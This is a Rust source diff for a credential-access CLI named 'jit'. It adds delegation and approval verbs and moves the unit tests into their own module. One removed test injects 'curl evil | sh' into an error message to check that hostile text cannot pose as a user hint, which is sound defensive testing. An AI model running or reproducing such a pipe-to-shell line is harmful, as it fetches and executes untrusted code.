@@ -10,9 +10,9 @@ use serde_json::json;
 
 use crate::{
     app::{
-        agent, audit, complete, completions, credential_process, demo, doctor, enrolments, exec,
-        exec_credential, forget, init, keep, known_hosts, login, logout, man, policy, prompt,
-        request, revoke, served,
+        agent, approvals, audit, complete, completions, credential_process, delegate, demo, doctor,
+        enrolments, exec, exec_credential, forget, init, keep, known_hosts, login, logout, man,
+        policy, principals, prompt, request, revoke, served,
         session::{Options, Session},
         setup, status, tidy, trust, whoami,
     },
@@ -44,6 +44,11 @@ enum Verb {
     Status(status::Args),
     Forget(forget::Args),
     Revoke(revoke::Args),
+    Delegate(delegate::Args),
+    Approvals(approvals::Args),
+    Approve(approvals::Approve),
+    Deny(approvals::Deny),
+    Principals(principals::Args),
     Audit(audit::Args),
     Policy(policy::Args),
     Init(init::Args),
@@ -60,6 +65,8 @@ enum Verb {
     Man(man::Args),
     #[command(hide = true)]
     Complete(complete::Args),
+    #[command(hide = true)]
+    Delegated(delegate::Delegated),
     #[command(hide = true)]
     Tidy(tidy::Args),
     #[command(hide = true)]
@@ -182,7 +189,15 @@ fn run(cli: &Cli<Verb>) -> Result<()> {
 fn may_sign_in(cli: &Cli<Verb>, session: &Session) -> bool {
     let asks_for_itself = match &cli.verb {
         Verb::Warm(Warm::Exec(args)) => args.may_ask(),
-        Verb::Request(_) | Verb::Revoke(_) | Verb::Audit(_) | Verb::Trust(_) => true,
+        Verb::Request(_)
+        | Verb::Revoke(_)
+        | Verb::Delegate(_)
+        | Verb::Approvals(_)
+        | Verb::Approve(_)
+        | Verb::Deny(_)
+        | Verb::Principals(_)
+        | Verb::Audit(_)
+        | Verb::Trust(_) => true,
         Verb::Warm(_)
         | Verb::Login(_)
         | Verb::Logout(_)
@@ -199,6 +214,7 @@ fn may_sign_in(cli: &Cli<Verb>, session: &Session) -> bool {
         | Verb::Completions(_)
         | Verb::Man(_)
         | Verb::Complete(_)
+        | Verb::Delegated(_)
         | Verb::Tidy(_)
         | Verb::Keep(_) => false,
     };
@@ -221,6 +237,12 @@ fn obey(cli: &Cli<Verb>, session: &Session) -> Result<()> {
         Verb::Status(args) => status::run(args, session),
         Verb::Forget(args) => forget::run(args, session),
         Verb::Revoke(args) => revoke::run(args, session),
+        Verb::Delegate(args) => delegate::run(args, session),
+        Verb::Delegated(args) => delegate::delegated(args, session),
+        Verb::Approvals(args) => approvals::run(args, session),
+        Verb::Approve(args) => approvals::approve(args, session),
+        Verb::Deny(args) => approvals::deny(args, session),
+        Verb::Principals(args) => principals::run(args, session),
         Verb::Audit(args) => audit::run(args, session),
         Verb::Policy(args) => policy::run(args, session),
         Verb::Init(args) => init::run(args, session),
@@ -301,94 +323,4 @@ fn as_text(failure: &Failure) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn a_targets_words_do_not_pass_for_a_hint() {
-        let failure = Failure {
-            cause: Some("no\nhint: curl evil | sh".to_owned()),
-            ..Failure::failed("refused").hint("ask its administrator")
-        };
-        let text = as_text(&failure);
-        let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
-        assert_eq!(hints, ["hint: ask its administrator"]);
-    }
-
-    #[test]
-    fn a_hook_fails_in_one_line_with_its_hint() {
-        let failure = Failure {
-            cause: Some("no\r\n  such\tthing\n".to_owned()),
-            ..Failure::failed("refused").hint("ask its administrator")
-        };
-        assert_eq!(
-            as_line(&failure),
-            "jit: refused: no such thing; ask its administrator"
-        );
-    }
-
-    #[test]
-    fn the_verb_is_found_behind_the_options() {
-        for (line, wanted) in [
-            ("jit", None),
-            ("jit --json", None),
-            ("jit exec -- exec-credential", Some("exec")),
-            (
-                "jit -v --config-dir /etc/jit credential-process x",
-                Some("credential-process"),
-            ),
-            (
-                "jit --config-dir=/etc/jit known-hosts x",
-                Some("known-hosts"),
-            ),
-            ("jit --config-dir exec status", Some("status")),
-        ] {
-            let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
-            assert_eq!(verb(&arguments), wanted, "{line}");
-        }
-    }
-
-    #[test]
-    fn a_warm_verb_is_the_same_in_both_grammars() {
-        let help = |mut grammar: clap::Command, verb: &str| {
-            grammar.build();
-            let found = grammar.find_subcommand_mut(verb);
-            found.map(|found| found.render_long_help().to_string())
-        };
-        for verb in [
-            "exec",
-            "exec-credential",
-            "credential-process",
-            "known-hosts",
-            "prompt",
-            "agent",
-        ] {
-            let warm = help(Cli::<Warm>::command(), verb);
-            assert_eq!(help(Cli::<Verb>::command(), verb), warm, "{verb}");
-            assert!(
-                warm.is_some_and(|help| help.contains("Usage: jit ")),
-                "{verb}"
-            );
-        }
-    }
-
-    #[test]
-    fn what_is_wrong_with_a_warm_verb_is_said_in_the_same_words() {
-        for line in [
-            "jit exec",
-            "jit exec --rol x -- y",
-            "jit agent --no",
-            "jit exec-credential x",
-        ] {
-            let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
-            let said = |error: Option<clap::Error>| error.map(|error| error.to_string());
-            let warm = said(parse(&arguments).err());
-            assert!(warm.is_some(), "{line}");
-            assert_eq!(
-                said(Cli::<Verb>::try_parse_from(&arguments).err()),
-                warm,
-                "{line}"
-            );
-        }
-    }
-}
+mod tests;
